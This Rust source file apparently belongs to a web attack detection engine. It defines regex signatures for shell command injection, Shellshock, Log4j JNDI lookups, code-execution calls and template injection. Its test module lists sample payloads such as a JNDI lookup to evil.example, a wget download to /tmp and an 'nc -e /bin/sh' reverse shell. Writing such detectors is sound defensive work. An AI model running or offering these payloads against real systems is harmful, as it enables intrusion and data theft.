//! Command and code injection signatures (shell, shellshock, JNDI, code eval, SSTI).

use std::sync::LazyLock;

use regex::Regex;
use sentinel_schema::ThreatClass::Cmdi;

use super::{resolve_log4j_lookups, SigInput, Signature};
use crate::lex::Lex;
use crate::lexicon::{word, Group};

static JNDI: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\$\{jndi:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:")
        .unwrap_or_else(|e| panic!("{e}"))
});

/// Resolves Log4j lookups and looks for a JNDI lookup with a remote scheme.
fn jndi(input: &SigInput<'_>) -> bool {
    let text = input.text;
    if JNDI.is_match(text) {
        return true;
    }
    text.contains("${") && JNDI.is_match(&resolve_log4j_lookups(text, 64))
}

static DEOBFUSCATED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[\s;&|`\n(])(?:/bin/|/usr/bin/)?(?:cat|head|tail|more|less|ls|id|whoami|uname|wget|curl|nc|bash|sh|ping|echo|sleep)\b[\s/]*(?:$|[;&|`\n]|/?etc/|/bin/|/tmp/|-[a-z]+|\d)")
        .unwrap_or_else(|e| panic!("{e}"))
});

/// Removes shell quoting and empty-variable noise (`c'a't`, `c\at`, `$u`,
/// `${u}`, `$@`) and looks for a command again.
fn obfuscated_command(input: &SigInput<'_>) -> bool {
    let t = input.text;
    let mut out = String::with_capacity(t.len());
    let b = t.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' | b'\'' | b'"' => i += 1,
            b'$' if b.get(i + 1) == Some(&b'@') => i += 2,
            b'$' if b.get(i + 1) == Some(&b'{') => match t[i..].find('}') {
                Some(end) if end <= 12 => i += end + 1,
                _ => {
                    out.push('$');
                    i += 1;
                }
            },
            b'$' => {
                let len = b[i + 1..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                    .count();
                if (1..=8).contains(&len) {
                    i += 1 + len;
                } else {
                    out.push('$');
                    i += 1;
                }
            }
            _ => {
                let ch = t[i..].chars().next().unwrap_or(' ');
                out.push(ch);
                i += ch.len_utf8();
            }
        }
    }
    out != t && DEOBFUSCATED.is_match(&out)
}

fn separators(l: &Lex) -> bool {
    l.semicolons + l.pipes + l.ampersands + l.backticks + l.dollars + l.newlines > 0
}

/// The command and code injection signatures.
pub fn signatures() -> Vec<Signature> {
    vec![
        Signature::rx(
            "cmdi.separator_command",
            Cmdi,
            0.93,
            "a shell separator followed by a command that rarely appears in prose (; whoami, | wget, && uname -a)",
            |l| separators(l) && l.count(word::SHELL_STRONG) > 0,
            r"(?:^|[;&|`\n]|\$\(|\|\||&&)\s*(?:[a-z0-9_./\\-]*/)?(?:whoami|uname|wget|curl|netcat|ncat|bash|zsh|ksh|csh|tcsh|dash|sh|powershell|pwsh|cmd|ifconfig|ipconfig|netstat|nslookup|chmod|chown|telnet|nmap|busybox|systeminfo|tasklist|taskkill|certutil|bitsadmin|mkfifo|crontab|useradd|sudo|xterm|socat|perl|python[23]?|ruby|php|lua|node|base64|xxd|wmic|regsvr32|rundll32|mshta|cscript|wscript|sysctl|iptables|passwd|getent|hostname|nohup|tftp|ftp|scp|ssh|rm|dig|traceroute|tracert|arp|lsof|printenv|pwd|ls|ps|wc|expr|xargs)(?:\.exe)?\b(?:\s|$|[;&|`)<>'\x22])",
        ),
        Signature::rx(
            "cmdi.separator_weak_command",
            Cmdi,
            0.85,
            "a shell separator followed by a common command with shell-like arguments (; cat /etc/passwd, | id;, & ping -n 3)",
            |l| separators(l) && l.count(word::SHELL_WEAK) > 0,
            r"(?:^|[;&|`\n]|\$\(|\|\||&&)\s*(?:[a-z0-9_./\\-]*/)?(?:(?:cat|echo|ping|sleep|dir|type|more|less|head|tail|find|kill|touch|cp|mv|tar|grep|awk|sed|time|whois|sort|cut|tee|eval|exec|del|copy|dd|which|od|strings)(?:\.exe)?\s+(?:-{1,2}[a-z0-9]|/|\\|[a-z]:|\$|%|\d|\.|~|'|\x22)|net\s+(?:view|user|localgroup|use|share|start|stop|config|session)\b|(?:id|env|set|who|w|ver|pwd|ps|ls|dir)(?:\.exe)?\s*(?:$|[;&|`)\n]))",
        ),
        Signature::rx(
            "cmdi.leading_command",
            Cmdi,
            0.7,
            "the value starts with a command invocation with flags or a system path (ls -la, cat /etc/passwd, /bin/sh -c)",
            |l| l.count(word::SHELL_STRONG) + l.count(word::SHELL_WEAK) > 0,
            r"^\s*(?:(?:whoami|ifconfig|ipconfig|netstat|systeminfo|tasklist|uname)(?:\.exe)?(?:\s+[-/][a-z]+)*\s*$|uname\s+-[a-z]+|ls\s+-[a-z]+|cat\s+/|id\s*$|(?:wget|curl)\s+(?:-[a-z-]+\s+)*(?:https?|ftp)://|nc\s+-|bash\s+-|sh\s+-c|ping(?:\.exe)?\s+-[a-z]\s+\d|/bin/[a-z]+|/usr/bin/[a-z]+|powershell\s|cmd(?:\.exe)?\s*/c|dir\s+[a-z]:|echo\s+.{0,60}\|\s*(?:sh|bash|base64))",
        ),
        Signature::rx(
            "cmdi.substitution",
            Cmdi,
            0.9,
            "command substitution or IFS tricks ($(id), `uname`, ${IFS}, $IFS$9)",
            |l| l.dollars + l.backticks > 0,
            r"\$\(\s*[a-z/]|`\s*(?:[a-z0-9_./-]*/)?(?:whoami|uname|id|ls|cat|wget|curl|nc|bash|sh|ping|sleep|echo|perl|python|pwd|hostname|ifconfig)\b[^`]{0,80}`|\$\{ifs\}|\$ifs\b|\$\{?ifs\}?\$\d|\$\{path:0:1\}|\$\{home:0:1\}",
        ),
        Signature::rx(
            "cmdi.shellshock",
            Cmdi,
            0.98,
            "a Shellshock function definition (() { :; };)",
            |l| l.group(Group::JndiShellshock) > 0,
            r"\(\s*\)\s*\{\s*(?::\s*;|[a-z_]+\s*;|[^}]{0,40};)\s*\}\s*;",
        ),
        Signature::func(
            "cmdi.jndi_lookup",
            Cmdi,
            0.98,
            "a Log4j JNDI lookup with a remote scheme, after resolving lookup obfuscation",
            |l| l.group(Group::JndiShellshock) > 0 || (l.dollars > 1 && l.braces > 1),
            jndi,
        ),
        Signature::rx(
            "cmdi.php_code",
            Cmdi,
            0.9,
            "PHP code or execution functions (<?php, system(, passthru(, shell_exec(, base64_decode()",
            |l| l.count(word::CODE_FUNCTION) > 0 || l.group(Group::Template) > 0,
            r#"<\?(?:php|=)|\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|create_function|call_user_func(?:_array)?|phpinfo|base64_decode|file_put_contents|file_get_contents|fopen|readfile|gzinflate|str_rot13|preg_replace|move_uploaded_file|include(?:_once)?|require(?:_once)?)\s*\(\s*(?:['"$)]|[a-z_]+\s*\(|\d|/|\.\.|https?:|php:)"#,
        ),
        Signature::rx(
            "cmdi.php_superglobal",
            Cmdi,
            0.85,
            "eval/exec over request superglobals ($_GET, $_POST, $_REQUEST)",
            |l| l.dollars > 0,
            r"\$_(?:get|post|request|cookie|server|files|env)\s*\[",
        ),
        Signature::rx(
            "cmdi.python_code",
            Cmdi,
            0.92,
            "Python object-model traversal or process execution (__import__, __class__.__mro__, os.system, subprocess)",
            |l| l.count(word::CODE_FUNCTION) > 0,
            r"__import__\s*\(|__(?:class|globals|builtins|subclasses|mro|base|init)__|\bos\s*\.\s*(?:system|popen|exec[a-z]*|spawn[a-z]*)\s*\(|\bsubprocess\s*\.\s*(?:call|run|popen|check_output)",
        ),
        Signature::rx(
            "cmdi.java_code",
            Cmdi,
            0.95,
            "Java runtime execution or OGNL/EL gadgets (Runtime.getRuntime().exec, ProcessBuilder, #_memberAccess)",
            |l| l.count(word::CODE_FUNCTION) > 0 || l.hashes > 0,
            r"\bgetruntime\s*\(\s*\)\s*\.\s*exec|\bprocessbuilder\b|java\s*\.\s*lang\s*\.\s*(?:runtime|processbuilder|system)|\bclass\s*\.\s*forname\s*\(|#_memberaccess|@java\.lang\.|#context\s*\[|\bscriptengine(?:manager)?\b|\bnashorn\b|\.getclass\s*\(\s*\)\s*\.\s*(?:forname|getmethod|getclassloader)",
        ),
        Signature::rx(
            "cmdi.node_code",
            Cmdi,
            0.92,
            "Node.js process execution (require('child_process'), process.mainModule)",
            |l| l.count(word::CODE_FUNCTION) > 0 || l.count(word::JS) > 0,
            r#"\brequire\s*\(\s*['"`]child_process|\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding)\b|\bexecsync\s*\("#,
        ),
        Signature::rx(
            "cmdi.template_injection",
            Cmdi,
            0.85,
            "server-side template expressions that compute or reach the runtime ({{7*7}}, ${7*7}, {{config}}, <%= %>)",
            |l| l.group(Group::Template) > 0 || (l.dollars > 0 && l.braces > 0),
            r"\{\{\s*(?:\d+\s*[*+]\s*\d+|config\b|self\b|request\b|lipsum\b|cycler\b|joiner\b|namespace\b|url_for\b|get_flashed_messages\b|range\s*\(|''\s*\.|\x22\x22\s*\.|\[\s*\]\s*\.)|\$\{\s*\d+\s*[*+]\s*\d+\s*\}|#\{\s*\d+\s*[*+]\s*\d+\s*\}|<%=?\s*(?:\d+\s*[*+]\s*\d+|system|exec|runtime|`)|\$\{\s*(?:t\(|new\s|@|\x22\x22\.|''\.|[a-z_]+\.getclass)|\{\{.{0,40}(?:__|\|attr|\|safe|popen|exec)",
        ),
        Signature::rx(
            "cmdi.shell_path",
            Cmdi,
            0.9,
            "shells and reverse-shell plumbing (/bin/sh, /dev/tcp/, cmd.exe /c, nc -e, bash -i)",
            |l| l.group(Group::ShellPath) > 0 || l.count(word::SHELL_STRONG) > 0,
            r"/bin/(?:ba|z|k|c|tc|da)?sh\b|/dev/(?:tcp|udp)/|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-|\b(?:nc|ncat|netcat)\s+(?:-[a-z]*[elc]|[0-9.]+\s+\d+\s*(?:-e|<|>|\|))|\bbash\s+-[ic]\b|\bsh\s+-c\b|\bmkfifo\b|/usr/bin/(?:id|whoami|env|perl|python\d?|wget|curl|nc)\b",
        ),
        Signature::rx(
            "cmdi.download_execute",
            Cmdi,
            0.95,
            "fetching a remote payload from the shell (wget http://..., curl ... | sh)",
            |l| l.count(word::SHELL_STRONG) > 0,
            r"\b(?:wget|curl|fetch|tftp)\s+(?:-[a-z-]+\s+(?:[^\s]+\s+)?)*(?:https?|ftp|tftp)://|(?:https?|ftp)://[^\s|;]+\s*\|\s*(?:ba)?sh\b",
        ),
        Signature::rx(
            "cmdi.redirection",
            Cmdi,
            0.75,
            "output redirection to a file or device (> /tmp/x, >> /var/www/shell.php, 2>&1)",
            |l| l.gt > 0,
            r"(?:>|>>)\s*(?:/tmp/|/var/www|/dev/(?:null|tcp|udp)|\.\./|~/|[a-z]:\\|/etc/|/usr/)|\b\d\s*>\s*&\s*\d\b",
        ),
        Signature::rx(
            "cmdi.eval_shell",
            Cmdi,
            0.92,
            "an eval/exec/system call whose argument is a shell command (eval('ls'), exec('whoami'))",
            |l| l.count(word::CODE_FUNCTION) + l.count(word::JS) + l.count(word::SHELL_WEAK) > 0,
            r#"\b(?:eval|exec|system|passthru|popen|shell_exec|spawn|execsync)\s*\(\s*['"`]\s*(?:ls|pwd|id|whoami|sleep|cat|uname|dir|ping|wget|curl|nc|bash|sh|cmd|powershell|echo|ipconfig|ifconfig|net)\b"#,
        ),
        Signature::rx(
            "cmdi.php_interpolation",
            Cmdi,
            0.97,
            "PHP complex-syntax interpolation that calls a function ({${phpinfo()}}, {${sleep(5)}})",
            |l| l.dollars > 0 && l.braces > 0,
            r"\{\s*\$\s*\{\s*[a-z_][a-z0-9_]*\s*\(",
        ),
        Signature::rx(
            "cmdi.ssi_directive",
            Cmdi,
            0.95,
            "a server-side include directive (<!--#exec cmd=...-->, <!--#include virtual=...-->)",
            |l| l.hashes > 0 && l.lt > 0,
            r"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod)\b",
        ),
        Signature::func(
            "cmdi.obfuscated_command",
            Cmdi,
            0.9,
            "a command hidden by shell quoting or empty variables (c'a't /e\"t\"c/passwd, $u/bin$u/cat)",
            |l| l.dollars + l.backslashes + l.quotes() > 1,
            obfuscated_command,
        ),
        Signature::rx(
            "cmdi.windows_env",
            Cmdi,
            0.7,
            "Windows environment expansions used in command injection (%COMSPEC%, %SystemRoot%)",
            |l| l.percents > 1,
            r"%(?:comspec|systemroot|windir|programfiles|userprofile|temp|appdata)%",
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::super::test_support::{assert_class, assert_clean};
    use sentinel_schema::ThreatClass::Cmdi;

    #[test]
    fn attacks_match() {
        for p in [
            "; cat /etc/passwd",
            "| whoami",
            "&& uname -a",
            "$(id)",
            "`id`",
            "127.0.0.1;ls -la",
            "() { :; }; /bin/bash -c 'cat /etc/passwd'",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}${upper:n}di:ldap://x/y}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://h/o}",
            "<?php system($_GET['c']); ?>",
            "{{7*7}}",
            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
            "__import__('os').system('id')",
            "java.lang.Runtime.getRuntime().exec('id')",
            "; wget http://x.example/s.sh -O /tmp/s",
            "cat${IFS}/etc/passwd",
            "& ping -n 3 127.0.0.1 &",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "require('child_process').exec('id')",
            "127.0.0.1 && dir c:\\",
            "eval('whoami')",
            "{${sleep(20)}}",
            "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
            "$u/bin$u/cat$u $u/etc$u/passwd$u",
            ";+$u+cat+/etc$u/passwd+\\#",
            "c'a't /etc/passwd",
            "a;id\\n",
            "& net view",
            "ifconfig",
            "ping -i 30 127.0.0.1",
            "example.com%0Awhoami",
            "8.8.8.8%0Als -la #",
            "report%0Apwd",
        ] {
            assert_class(p, Cmdi);
        }
    }

    #[test]
    fn hard_negatives_stay_clean() {
        for p in [
            "Tom & Jerry",
            "cats; dogs; birds",
            "a|b|c",
            "price: $5",
            "Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.8 (like Gecko)",
            "the `code` span",
            "echo chamber",
            "I will ping you",
            "R&D department",
            "${HOME} is where the heart is",
            "100% sure",
            "fish & chips; salt",
            "LC & NC - Boys038-XL.jpg",
            "mammal;cat;ears",
            "curl and divergence",
            "Ben & Jerry's; Ben's",
            "I'd say it's fine",
        ] {
            assert_clean(p);
        }
    }
}
